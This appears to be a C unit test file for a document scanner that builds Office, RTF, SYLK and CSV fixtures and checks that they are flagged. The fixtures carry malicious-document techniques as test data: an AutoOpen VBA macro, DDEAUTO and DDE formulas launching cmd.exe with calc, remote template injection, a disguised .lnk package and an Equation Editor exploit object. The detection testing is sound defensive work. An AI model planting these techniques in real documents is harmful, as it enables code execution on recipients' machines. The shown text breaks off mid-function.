/*
 * Unit tests of the Office and RTF analysers (lib/scan/scan_office.c,
 * scan_cfb.c, scan_vba.c, scan_xlm.c, scan_ooxml.c, scan_rtf.c) through
 * ward_file_analyse(). Every fixture is built here: OLE2 files with libgsf's
 * writer, OOXML packages with libarchive's zip writer, VBA source with a
 * literal-only MS-OVBA compressor, RTF and XML as text. Each test asserts
 * the check ids, where they were found and the evidence.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include <archive.h>
#include <archive_entry.h>
#include <gsf/gsf.h>

#include "ward/buf.h"
#include "ward/error.h"
#include "ward/file.h"
#include "scan_office.h"

static struct ward_file_ctx *ctx;
static struct ward_file_result res;

struct part {
	const char *path; /* "Macros/VBA/dir"; storages are made as needed */
	const void *data;
	size_t len;
};

static const uint8_t lnk[76] = {0x4C, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00, 0x00, 0x00,
				0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46};

/* ---- fixture builders ---- */

static void
put32(struct ward_buf *b, uint32_t v)
{
	uint8_t x[4] = {(uint8_t)v, (uint8_t)(v >> 8), (uint8_t)(v >> 16), (uint8_t)(v >> 24)};
	ward_buf_add(b, x, 4);
}

static void
put16(struct ward_buf *b, unsigned v)
{
	uint8_t x[2] = {(uint8_t)v, (uint8_t)(v >> 8)};
	ward_buf_add(b, x, 2);
}

/* An OLE2 file holding the given streams (storages on their paths are created once). */
static uint8_t *
ole_build(const struct part *parts, size_t np, size_t *len)
{
	GsfOutput *mem = gsf_output_memory_new();
	GsfOutfile *root = gsf_outfile_msole_new(mem);
	GsfOutfile *stor[16];
	char names[16][128];
	size_t ns = 0, i, k;
	uint8_t *out;

	for (i = 0; i < np; i++) {
		GsfOutfile *dir = root;
		char path[128], *c, *slash;
		GsfOutput *s;

		snprintf(path, sizeof(path), "%s", parts[i].path);
		for (c = path; (slash = strchr(c, '/')); c = slash + 1) {
			*slash = '\0';
			for (k = 0; k < ns && strcmp(names[k], path) != 0; k++)
				;
			if (k == ns) {
				assert_true(ns < 16);
				snprintf(names[ns], sizeof(names[ns]), "%s", path);
				stor[ns++] = GSF_OUTFILE(gsf_outfile_new_child(dir, c, TRUE));
			}
			dir = stor[k];
			*slash = '/';
		}
		s = gsf_outfile_new_child(dir, c, FALSE);
		assert_non_null(s);
		assert_true(gsf_output_write(s, parts[i].len, parts[i].data));
		gsf_output_close(s);
		g_object_unref(s);
	}
	while (ns-- > 0) {
		gsf_output_close(GSF_OUTPUT(stor[ns]));
		g_object_unref(stor[ns]);
	}
	gsf_output_close(GSF_OUTPUT(root));
	g_object_unref(root);
	*len = (size_t)gsf_output_size(mem);
	out = malloc(*len);
	assert_non_null(out);
	memcpy(out, gsf_output_memory_get_bytes(GSF_OUTPUT_MEMORY(mem)), *len);
	g_object_unref(mem);
	return out;
}

/* A zip package of the given parts. */
static uint8_t *
zip_build(const struct part *parts, size_t np, size_t *len)
{
	size_t cap = 1 << 20, used = 0, i;
	uint8_t *buf = malloc(cap);
	struct archive *a = archive_write_new();

	assert_non_null(buf);
	assert_int_equal(archive_write_set_format_zip(a), ARCHIVE_OK);
	assert_int_equal(archive_write_open_memory(a, buf, cap, &used), ARCHIVE_OK);
	for (i = 0; i < np; i++) {
		struct archive_entry *e = archive_entry_new();
		archive_entry_set_pathname(e, parts[i].path);
		archive_entry_set_size(e, (la_int64_t)parts[i].len);
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		assert_int_equal(archive_write_header(a, e), ARCHIVE_OK);
		assert_int_equal(archive_write_data(a, parts[i].data, parts[i].len),
				 (la_ssize_t)parts[i].len);
		archive_entry_free(e);
	}
	assert_int_equal(archive_write_close(a), ARCHIVE_OK);
	archive_write_free(a);
	*len = used;
	return buf;
}

/* MS-OVBA compression with literal tokens only: valid, if not small. */
static void
vba_compress(struct ward_buf *out, const char *src, size_t n)
{
	size_t off = 0, i;

	ward_buf_addc(out, 1);
	while (off < n) {
		size_t len = n - off < 4096 ? n - off : 4096;
		size_t size = 2 + (len + 7) / 8 + len;
		put16(out, (unsigned)((size - 3) | 0x3000 | 0x8000));
		for (i = 0; i < len; i += 8) {
			ward_buf_addc(out, 0);
			ward_buf_add(out, src + off + i, len - i < 8 ? len - i : 8);
		}
		off += len;
	}
}

static void
dir_record(struct ward_buf *d, unsigned id, const void *p, size_t n)
{
	put16(d, id);
	put32(d, (uint32_t)n);
	ward_buf_add(d, p, n);
}

/* A dir stream naming one module, and that module's stream. */
static void
vba_project(struct ward_buf *dir, struct ward_buf *mod, const char *source)
{
	struct ward_buf d;
	const uint8_t ver[6] = {1, 0, 0, 0, 2, 0};

	ward_buf_init(&d);
	/* PROJECTVERSION: its size says 4, six bytes follow. */
	put16(&d, 0x0009);
	put32(&d, 4);
	ward_buf_add(&d, ver, 6);
	dir_record(&d, 0x0019, "Module1", 7);
	dir_record(&d, 0x001A, "Module1", 7);
	dir_record(&d, 0x0032, "M\0o\0d\0u\0l\0e\0001\0", 14);
	put16(&d, 0x0031);
	put32(&d, 4);
	put32(&d, 0);
	dir_record(&d, 0x002B, "", 0);
	dir_record(&d, 0x0010, "", 0);
	vba_compress(dir, d.p, d.len);
	vba_compress(mod, source, strlen(source));
	ward_buf_free(&d);
}

/* The native data of an OLE1 Package carrying file name with data. */
static void
package(struct ward_buf *b, const char *name, const void *data, size_t n)
{
	char path[64];

	snprintf(path, sizeof(path), "C:\\Temp\\%s", name);
	put16(b, 2);
	ward_buf_add(b, name, strlen(name) + 1);
	ward_buf_add(b, path, strlen(path) + 1);
	put32(b, 0x00030000);
	put32(b, (uint32_t)strlen(path) + 1);
	ward_buf_add(b, path, strlen(path) + 1);
	put32(b, (uint32_t)n);
	ward_buf_add(b, data, n);
}

/* A Word FIB: the magic, and the fEncrypted bit when asked. */
static void
fib(uint8_t *w, size_t n, int encrypted)
{
	memset(w, 0, n);
	w[0] = 0xEC;
	w[1] = 0xA5;
	w[0x0B] = encrypted ? 0x01 : 0x00;
}

static void
biff(struct ward_buf *b, unsigned type, const void *p, size_t n)
{
	put16(b, type);
	put16(b, (unsigned)n);
	ward_buf_add(b, p, n);
}

/* ---- running and asserting ---- */

static int
analyse(const void *p, size_t n, const char *name)
{
	return ward_file_analyse(ctx, p, n, name, &res);
}

static const struct ward_file_hit *
hit(const char *id, const char *where)
{
	size_t i;

	for (i = 0; i < res.n_hits; i++)
		if (strcmp(res.hits[i].check->id, id) == 0 && strcmp(res.hits[i].where, where) == 0)
			return &res.hits[i];
	return NULL;
}

static int
has_id(const char *id)
{
	size_t i;

	for (i = 0; i < res.n_hits; i++)
		if (strcmp(res.hits[i].check->id, id) == 0)
			return 1;
	return 0;
}

static void
dump(void)
{
	size_t i;

	for (i = 0; i < res.n_hits; i++)
		print_message("  hit %s @%s [%s]\n", res.hits[i].check->id, res.hits[i].where,
			      res.hits[i].detail);
}

static void
expect(const char *id, const char *where, const char *detail)
{
	const struct ward_file_hit *h = hit(id, where);

	if (!h || !strstr(h->detail, detail)) {
		print_message("expected %s @%s containing [%s]; got:\n", id, where, detail);
		dump();
		fail();
	}
}

/* ---- tests ---- */

static const char macro_source[] = "Attribute VB_Name = \"Module1\"\r\n"
				   "Sub AutoOpen()\r\n"
				   "    Set o = CreateObject(\"WScript.Shell\")\r\n"
				   "    Shell \"calc.exe\"\r\n"
				   "End Sub\r\n";

static void
test_ole2_vba_source(void **state)
{
	struct ward_buf dir, mod;
	uint8_t word[512], *doc;
	size_t len;

	(void)state;
	ward_buf_init(&dir);
	ward_buf_init(&mod);
	vba_project(&dir, &mod, macro_source);
	fib(word, sizeof(word), 0);
	{
		struct part parts[] = {
		    {"WordDocument", word, sizeof(word)},
		    {"Macros/VBA/dir", dir.p, dir.len},
		    {"Macros/VBA/Module1", mod.p, mod.len},
		    {"Macros/VBA/_VBA_PROJECT", "\xcc\x61\xff\xff\x00\x00\x00", 7},
		    {"Macros/PROJECT", "ID=\"{0}\"\r\nModule=Module1\r\n", 26},
		};
		doc = ole_build(parts, 5, &len);
	}
	assert_int_equal(analyse(doc, len, "report.doc"), 0);
	assert_string_equal(res.kind, "ole2");
	expect("file.office.vba_macro", "", "AutoOpen, Shell, WScript.Shell, CreateObject");
	assert_int_equal(res.n_hits, 1);
	free(doc);
	ward_buf_free(&dir);
	ward_buf_free(&mod);
}

static void
test_ole2_vba_structure(void **state)
{
	uint8_t *doc;
	size_t len;
	struct part parts[] = {
	    {"Workbook", "\x09\x08\x04\x00\x00\x06\x05\x00\x0a\x00\x00\x00", 12},
	    {"_VBA_PROJECT_CUR/VBA/dir", "\x01\xff\xff garbage", 11},
	    {"_VBA_PROJECT_CUR/VBA/_VBA_PROJECT", "\xcc\x61", 2},
	};

	(void)state;
	/* The source cannot be decompressed: the project is still reported. */
	doc = ole_build(parts, 3, &len);
	assert_int_equal(analyse(doc, len, "book.xls"), 0);
	expect("file.office.vba_macro", "", "project in _VBA_PROJECT_CUR/VBA");
	assert_int_equal(res.n_hits, 1);
	free(doc);
}

static void
test_vba_copy_tokens(void **state)
{
	/* "Shell " as literals, then a copy token (offset 6, length 12): "Shell Shell Shell ". */
	static const uint8_t module[] = {0x01, 0x08, 0xB0, 0x40, 'S',  'h',
					 'e',  'l',  'l',  ' ',	 0x09, 0x50};
	struct ward_buf dir, unused;
	uint8_t *doc;
	size_t len;

	(void)state;
	ward_buf_init(&dir);
	ward_buf_init(&unused);
	vba_project(&dir, &unused, "x");
	{
		struct part parts[] = {
		    {"VBA/dir", dir.p, dir.len},
		    {"VBA/Module1", module, sizeof(module)},
		    {"VBA/_VBA_PROJECT", "\xcc\x61", 2},
		};
		doc = ole_build(parts, 3, &len);
	}
	assert_int_equal(analyse(doc, len, "vbaProject.bin"), 0);
	expect("file.office.vba_macro", "", "Shell");
	assert_null(strstr(hit("file.office.vba_macro", "")->detail, "modules"));
	free(doc);
	ward_buf_free(&dir);
	ward_buf_free(&unused);
}

static const char content_types[] =
    "<?xml version=\"1.0\"?><Types "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
    "<Override PartName=\"/word/document.xml\" "
    "ContentType=\"application/"
    "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
    "</Types>";
static const char root_rels[] =
    "<?xml version=\"1.0\"?><Relationships "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
    "<Relationship Id=\"rId1\" "
    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" "
    "Target=\"word/document.xml\"/></Relationships>";
static const char doc_rels[] =
    "<?xml version=\"1.0\"?><Relationships "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
    "<Relationship Id=\"rId9\" "
    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" "
    "Target=\"https://www.example.com/\" TargetMode=\"External\"/></Relationships>";
static const char clean_document[] =
    "<?xml version=\"1.0\"?><w:document "
    "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
    "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> PAGE "
    "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
    "<w:p><w:fldSimple w:instr=\" HYPERLINK &quot;https://www.example.com/&quot; \"/></w:p>"
    "<w:p><w:r><w:t>Quarterly report</w:t></w:r></w:p></w:body></w:document>";

static void
test_docx(void **state)
{
	static const char document[] =
	    "<?xml version=\"1.0\"?><w:document "
	    "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
	    "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
	    "<w:r><w:instrText xml:space=\"preserve\"> DDEAUTO </w:instrText></w:r>"
	    "<w:r><w:instrText>c:\\\\Windows\\\\System32\\\\cmd.exe &quot;/k calc&quot;"
	    "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
	    "<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
	    "</w:body></w:document>";
	static const char settings_rels[] =
	    "<?xml version=\"1.0\"?><Relationships "
	    "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	    "<Relationship Id=\"rId1\" "
	    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	    "attachedTemplate\" Target=\"http://198.51.100.7/t.dotm?a=1&amp;b=2\" "
	    "TargetMode=\"External\"/></Relationships>";
	uint8_t *vba, *docx;
	size_t vlen, len;
	struct part vparts[] = {
	    {"VBA/dir", "\x01\x10\xb0\x00", 4},
	    {"VBA/_VBA_PROJECT", "\xcc\x61", 2},
	    {"PROJECT", "ID=\"{0}\"\r\n", 10},
	};

	(void)state;
	vba = ole_build(vparts, 3, &vlen);
	{
		struct part parts[] = {
		    {"[Content_Types].xml", content_types, strlen(content_types)},
		    {"_rels/.rels", root_rels, strlen(root_rels)},
		    {"word/document.xml", document, strlen(document)},
		    {"word/_rels/document.xml.rels", doc_rels, strlen(doc_rels)},
		    {"word/_rels/settings.xml.rels", settings_rels, strlen(settings_rels)},
		    {"word/vbaProject.bin", vba, vlen},
		};
		docx = zip_build(parts, 6, &len);
	}
	assert_int_equal(analyse(docx, len, "letter.docm"), 0);
	assert_string_equal(res.kind, "ooxml");
	expect("file.office.dde", "word/document.xml",
	       "DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe \"/k calc\"");
	expect("file.office.external_template", "word/_rels/settings.xml.rels",
	       "attachedTemplate http://198.51.100.7/t.dotm?a=1&b=2");
	expect("file.office.vba_macro", "word/vbaProject.bin", "project in VBA");
	/* The external hyperlink is normal and not reported. */
	assert_null(hit("file.office.external_template", "word/_rels/document.xml.rels"));
	assert_int_equal(res.n_hits, 3);
	free(vba);
	free(docx);
}

static void
test_docx_clean(void **state)
{
	uint8_t *docx;
	size_t len;
	struct part parts[] = {
	    {"[Content_Types].xml", content_types, strlen(content_types)},
	    {"_rels/.rels", root_rels, strlen(root_rels)},
	    {"word/document.xml", clean_document, strlen(clean_document)},
	    {"word/_rels/document.xml.rels", doc_rels, strlen(doc_rels)},
	};

	(void)state;
	docx = zip_build(parts, 4, &len);
	assert_int_equal(analyse(docx, len, "report.docx"), 0);
	assert_string_equal(res.kind, "ooxml");
	if (res.n_hits)
		dump();
	assert_int_equal(res.n_hits, 0);
	free(docx);
}

static void
test_docx_unreadable(void **state)
{
	uint8_t *docx;
	size_t len;
	struct part parts[] = {
	    {"[Content_Types].xml", content_types, strlen(content_types)},
	    {"word/document.xml", clean_document, strlen(clean_document)},
	};

	(void)state;
	docx = zip_build(parts, 2, &len);
	/* The central directory still names the parts, the first local header is broken. */
	docx[26] = 0xFF;
	docx[27] = 0xFF;
	assert_int_equal(analyse(docx, len, "broken.docx"), 0);
	assert_string_equal(res.kind, "ooxml");
	if (res.n_hits != 1 || !hit("file.archive.opaque", ""))
		dump();
	expect("file.archive.opaque", "", "Office package cannot be read");
	free(docx);
}

static void
test_xlsx_dde_and_xlm(void **state)
{
	static const char ct[] =
	    "<Types><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/"
	    "vnd.ms-excel.sheet.macroEnabled.main+xml\"/><Override "
	    "PartName=\"/xl/macrosheets/sheet1.xml\" "
	    "ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/></Types>";
	static const char wb[] =
	    "<workbook><sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/>"
	    "<sheet name=\"M1\" sheetId=\"2\" state=\"veryHidden\" "
	    "r:id=\"rId2\"/></sheets><definedNames><definedName "
	    "name=\"_xlnm.Auto_Open\">M1!$A$1</definedName></definedNames>"
	    "</workbook>";
	static const char link[] = "<externalLink><ddeLink ddeService=\"cmd\" "
				   "ddeTopic=\"/c calc.exe\"><ddeItems/></ddeLink></externalLink>";
	static const char sheet[] = "<xm:macrosheet><sheetData/></xm:macrosheet>";
	uint8_t *x;
	size_t len;
	struct part parts[] = {
	    {"[Content_Types].xml", ct, strlen(ct)},
	    {"_rels/.rels", root_rels, strlen(root_rels)},
	    {"xl/workbook.xml", wb, strlen(wb)},
	    {"xl/macrosheets/sheet1.xml", sheet, strlen(sheet)},
	    {"xl/externalLinks/externalLink1.xml", link, strlen(link)},
	};

	(void)state;
	x = zip_build(parts, 5, &len);
	assert_int_equal(analyse(x, len, "book.xlsm"), 0);
	expect("file.office.xlm_macro", "",
	       "macro sheet xl/macrosheets/sheet1.xml, very hidden sheet 'M1', Auto_Open");
	expect("file.office.dde", "xl/externalLinks/externalLink1.xml",
	       "DDE link cmd|'/c calc.exe'");
	assert_int_equal(res.n_hits, 2);
	free(x);
}

static void
test_encrypted(void **state)
{
	uint8_t word[512], *doc;
	size_t len;
	struct ward_buf wb;
	const uint8_t bof[] = {0x00, 0x06, 0x05, 0x00, 0, 0, 0, 0};
	struct part ooxml[] = {
	    {"EncryptionInfo", "\x04\x00\x04\x00\x40\x00\x00\x00", 8},
	    {"EncryptedPackage", "\x10\x00\x00\x00\x00\x00\x00\x00 encrypted bytes", 24},
	};
	struct part wordp[] = {{"WordDocument", word, sizeof(word)}};

	(void)state;
	doc = ole_build(ooxml, 2, &len);
	assert_int_equal(analyse(doc, len, "secret.docx"), 0);
	expect("file.office.encrypted", "", "EncryptionInfo, EncryptedPackage");
	free(doc);

	fib(word, sizeof(word), 1);
	doc = ole_build(wordp, 1, &len);
	assert_int_equal(analyse(doc, len, "secret.doc"), 0);
	expect("file.office.encrypted", "", "Word document encrypted (FIB fEncrypted)");
	free(doc);

	ward_buf_init(&wb);
	biff(&wb, 0x0809, bof, sizeof(bof));
	biff(&wb, 0x002F, "\x01\x00\x01\x00\x01\x00", 6);
	/* After FILEPASS the data is ciphertext: a "macro sheet" there is not believed. */
	biff(&wb, 0x0085, "\0\0\0\0\0\x01\x02\x00MM", 10);
	{
		struct part xls[] = {{"Workbook", wb.p, wb.len}};
		doc = ole_build(xls, 1, &len);
	}
	assert_int_equal(analyse(doc, len, "secret.xls"), 0);
	expect("file.office.encrypted", "", "Excel workbook encrypted (FILEPASS)");
	assert_false(has_id("file.office.xlm_macro"));
	free(doc);
	ward_buf_free(&wb);
}

static void
test_ole10native_lnk(void **state)
{
	static const uint8_t compobj[] = {
	    0x01, 0x00, 0xfe, 0xff, 0x03, 0x0a, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff,
	    0x0c, 0x00, 0x03, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00,
	    0x00, 0x00, 0x00, 0x46, 0x0c, 0x00, 0x00, 0x00, 'O',  'L',	'E',  ' ',
	    'P',  'a',	'c',  'k',  'a',  'g',	'e',  0x00, 0x00, 0x00, 0x00, 0x00,
	    0x08, 0x00, 0x00, 0x00, 'P',  'a',	'c',  'k',  'a',  'g',	'e',  0x00};
	struct ward_buf native, stream;
	uint8_t word[512], *doc;
	size_t len;

	(void)state;
	ward_buf_init(&native);
	ward_buf_init(&stream);
	package(&native, "invoice.pdf.lnk", lnk, sizeof(lnk));
	put32(&stream, (uint32_t)native.len);
	ward_buf_add(&stream, native.p, native.len);
	fib(word, sizeof(word), 0);
	{
		struct part parts[] = {
		    {"WordDocument", word, sizeof(word)},
		    {"ObjectPool/_1573545115/\001CompObj", compobj, sizeof(compobj)},
		    {"ObjectPool/_1573545115/\001Ole10Native", stream.p, stream.len},
		};
		doc = ole_build(parts, 3, &len);
	}
	assert_int_equal(analyse(doc, len, "invoice.doc"), 0);
	expect("file.office.ole_object", "ObjectPool/_1573545115", "Package, file invoice.pdf.lnk");
	expect("file.shortcut", "ObjectPool/_1573545115/invoice.pdf.lnk", "LNK");
	free(doc);
	ward_buf_free(&native);
	ward_buf_free(&stream);
}

static void
hex(struct ward_buf *out, const uint8_t *p, size_t n)
{
	size_t i;

	for (i = 0; i < n; i++) {
		ward_buf_printf(out, "%02x", p[i]);
		if (i % 37 == 36)
			ward_buf_adds(out, "\r\n"); /* Word ignores line breaks in hex */
	}
}

static void
ole1(struct ward_buf *b, const char *cls, const uint8_t *native, size_t n)
{
	put32(b, 0x00000501);
	put32(b, 2);
	put32(b, (uint32_t)strlen(cls) + 1);
	ward_buf_add(b, cls, strlen(cls) + 1);
	put32(b, 0);
	put32(b, 0);
	put32(b, (uint32_t)n);
	ward_buf_add(b, native, n);
}

static void
test_rtf_package(void **state)
{
	struct ward_buf native, obj, rtf;

	(void)state;
	ward_buf_init(&native);
	ward_buf_init(&obj);
	ward_buf_init(&rtf);
	package(&native, "run.lnk", lnk, sizeof(lnk));
	ole1(&obj, "Package", (const uint8_t *)native.p, native.len);
	ward_buf_adds(&rtf, "{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\pard Hello\\par"
			    "{\\object\\objemb\\objupdate{\\*\\objclass Package}\\objw10\\objh10"
			    "{\\*\\objdata ");
	/* The first byte in a \bin run, the rest as hex with noise around it. */
	ward_buf_adds(&rtf, "\\bin1 ");
	ward_buf_add(&rtf, obj.p, 1);
	hex(&rtf, (const uint8_t *)obj.p + 1, obj.len - 1);
	ward_buf_adds(&rtf, "}{\\result Click}}\\par}");
	assert_int_equal(analyse(rtf.p, rtf.len, "doc.rtf"), 0);
	assert_string_equal(res.kind, "rtf");
	expect("file.rtf.object", "", "autoupdate, Package, file run.lnk");
	expect("file.shortcut", "object1/run.lnk", "LNK");
	ward_buf_free(&native);
	ward_buf_free(&obj);
	ward_buf_free(&rtf);
}

static void
test_rtf_equation_template_dde(void **state)
{
	struct part eq[] = {
	    {"\001CompObj", "x", 1},
	    {"Equation Native", "\x1c\x00\x00\x00\x02\x00", 6},
	};
	struct ward_buf obj, rtf;
	uint8_t *ole;
	size_t len;

	(void)state;
	ward_buf_init(&obj);
	ward_buf_init(&rtf);
	ole = ole_build(eq, 2, &len);
	ole1(&obj, "Equation.3", ole, len);
	ward_buf_adds(&rtf, "{\\rtf1{\\*\\template http://203.0.113.9/t.dot}"
			    "{\\field{\\*\\fldinst {\\rtlch DDEAUTO} c:\\\\windows\\\\system32\\\\"
			    "cmd.exe \"/c calc\"}{\\fldrslt x}}"
			    "{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata\r\n");
	hex(&rtf, (const uint8_t *)obj.p, obj.len);
	ward_buf_adds(&rtf, "}}}");
	assert_int_equal(analyse(rtf.p, rtf.len, "eq.rtf"), 0);
	expect("file.rtf.object", "", "Equation.3, Equation Editor, CVE-2017-11882");
	expect("file.office.ole_object", "object1", "Equation Editor, CVE-2017-11882");
	expect("file.office.external_template", "", "template http://203.0.113.9/t.dot");
	/* RTF's \\ is one backslash of field text. */
	expect("file.office.dde", "", "DDEAUTO c:\\windows\\system32\\cmd.exe \"/c calc\"");
	free(ole);
	ward_buf_free(&obj);
	ward_buf_free(&rtf);
}

static void
test_rtf_clean(void **state)
{
	static const char rtf[] = "{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}{\\*\\template "
				  "C:\\\\Users\\\\a\\\\Normal.dotm}{\\*\\generator x}"
				  "\\pard The \\\\object word and \\{braces\\} are text."
				  "{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}\\par}";

	(void)state;
	assert_int_equal(analyse(rtf, strlen(rtf), "letter.rtf"), 0);
	if (res.n_hits)
		dump();
	assert_int_equal(res.n_hits, 0);
}

static void
test_xls_macro_sheet(void **state)
{
	const uint8_t bof[] = {0x00, 0x06, 0x05, 0x00, 0, 0, 0, 0};
	/* BOUNDSHEET: position, very hidden, macro sheet, "Macro1" (8-bit). */
	const uint8_t sheet[] = {0, 0, 0, 0, 0x02, 0x01, 6, 0, 'M', 'a', 'c', 'r', 'o', '1'};
	/* NAME: built-in (0x0020), one character 0x01 = Auto_Open. */
	const uint8_t name[] = {0x20, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x01};
	struct ward_buf wb;
	uint8_t *doc;
	size_t len;

	(void)state;
	ward_buf_init(&wb);
	biff(&wb, 0x0809, bof, sizeof(bof));
	biff(&wb, 0x0085, sheet, sizeof(sheet));
	biff(&wb, 0x0018, name, sizeof(name));
	biff(&wb, 0x000A, "", 0);
	{
		struct part parts[] = {{"Workbook", wb.p, wb.len}};
		doc = ole_build(parts, 1, &len);
	}
	assert_int_equal(analyse(doc, len, "book.xls"), 0);
	expect("file.office.xlm_macro", "", "macro sheet 'Macro1' (very hidden), Auto_Open");
	assert_int_equal(res.n_hits, 1);
	free(doc);
	ward_buf_free(&wb);
}

static void
test_word_binary_dde(void **state)
{
	uint8_t word[1024], *doc;
	size_t len, i;
	static const char ascii[] =
	    "\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" \x14";
	static const char wide[] = "\x13 INCLUDEPICTURE \"http://192.0.2.1/p.png\" \\d \x15";

	(void)state;
	fib(word, sizeof(word), 0);
	memcpy(word + 600, ascii, strlen(ascii));
	{
		struct part parts[] = {{"WordDocument", word, sizeof(word)}};
		doc = ole_build(parts, 1, &len);
	}
	assert_int_equal(analyse(doc, len, "a.doc"), 0);
	expect("file.office.dde", "", "DDEAUTO c:\\\\windows");
	free(doc);

	/* The same in UTF-16LE text. */
	fib(word, sizeof(word), 0);
	for (i = 0; wide[i]; i++)
		word[600 + 2 * i] = (uint8_t)wide[i];
	{
		struct part parts[] = {{"WordDocument", word, sizeof(word)}};
		doc = ole_build(parts, 1, &len);
	}
	assert_int_equal(analyse(doc, len, "b.doc"), 0);
	expect("file.office.external_template", "", "INCLUDEPICTURE \"http://192.0.2.1/p.png\"");
	assert_false(has_id("file.office.dde"));
	free(doc);
}

static void
test_flat_xml(void **state)
{
	static const char word2003[] =
	    "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?>"
	    "<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\">"
	    "<w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>"
	    "DDE \"c:\\\\windows\\\\system32\\\\cmd.exe\" \"/c calc\"</w:instrText></w:r>"
	    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:wordDocument>";
	static const char excel2003[] =
	    "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?>"
	    "<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" "
	    "xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet><Table><Row>"
	    "<Cell ss:Formula=\"=cmd|'/c calc.exe'!A1\"><Data ss:Type=\"Number\">0</Data></Cell>"
	    "</Row></Table></Worksheet></Workbook>";
	static const char opc[] =
	    "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?>"
	    "<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
	    "<pkg:part pkg:name=\"/word/_rels/settings.xml.rels\"><pkg:xmlData><Relationships>"
	    "<Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
	    "relationships/attachedTemplate\" Target=\"\\\\198.51.100.3\\share\\t.dotm\" "
	    "TargetMode=\"External\"/></Relationships></pkg:xmlData></pkg:part>"
	    "<pkg:part pkg:name=\"/word/vbaProject.bin\"><pkg:binaryData>AAECAw==</pkg:binaryData>"
	    "</pkg:part></pkg:package>";

	(void)state;
	assert_int_equal(analyse(word2003, strlen(word2003), "a.xml"), 0);
	assert_string_equal(res.kind, "officexml");
	expect("file.office.dde", "", "DDE \"c:\\\\windows\\\\system32\\\\cmd.exe\" \"/c calc\"");
	assert_int_equal(analyse(excel2003, strlen(excel2003), "b.xml"), 0);
	expect("file.office.dde", "", "=cmd|'/c calc.exe'!A1");
	assert_int_equal(analyse(opc, strlen(opc), "c.xml"), 0);
	expect("file.office.external_template", "word/_rels/settings.xml.rels",
	       "attachedTemplate \\\\198.51.100.3\\share\\t.dotm");
	expect("file.office.vba_macro", "word/vbaProject.bin", "vbaProject.bin (unreadable)");
}

static void
test_sylk_csv(void **state)
{
	static const char slk[] = "ID;PWXL;N;E\r\nNN;NAuto_Open;ER1C1\r\n"
				  "C;Y1;X1;K0;EEXEC(\"calc.exe\")\r\nC;Y2;X1;K0;EHALT()\r\nE\r\n";
	static const char csv[] = "name,value\r\nx,=cmd|' /C calc'!A0\r\n";
	static const char plain[] = "a,b\r\n1,=SUM(A1:A2)\r\n";
	struct ward_file_limits lim;
	struct scan_job j;

	(void)state;
	/* Through the analyser directly, whatever the dispatcher routes to it. */
	ward_file_limits_default(&lim);
	memset(&res, 0, sizeof(res));
	memset(&j, 0, sizeof(j));
	j.ctx = ctx;
	j.r = &res;
	j.lim = &lim;
	scan_office_text(&j, (const uint8_t *)slk, strlen(slk), "", 0);
	expect("file.office.xlm_macro", "", "SYLK macro sheet: Auto_Open, EXEC, HALT");
	memset(&res, 0, sizeof(res));
	scan_office_text(&j, (const uint8_t *)csv, strlen(csv), "", 0);
	expect("file.office.dde", "", "=cmd|' /C calc'!A0");
	memset(&res, 0, sizeof(res));
	scan_office_text(&j, (const uint8_t *)plain, strlen(plain), "", 0);
	assert_int_equal(res.n_hits, 0);
}

static void
test_cfb_reader(void **state)
{
	struct part parts[] = {
	    {"Big", NULL, 8192},
	    {"Dir/Small", "tiny stream", 11},
	};
	uint8_t *doc, *s, big[8192];
	size_t len, slen;
	struct cfb c;
	uint32_t id;

	(void)state;
	memset(big, 'B', sizeof(big));
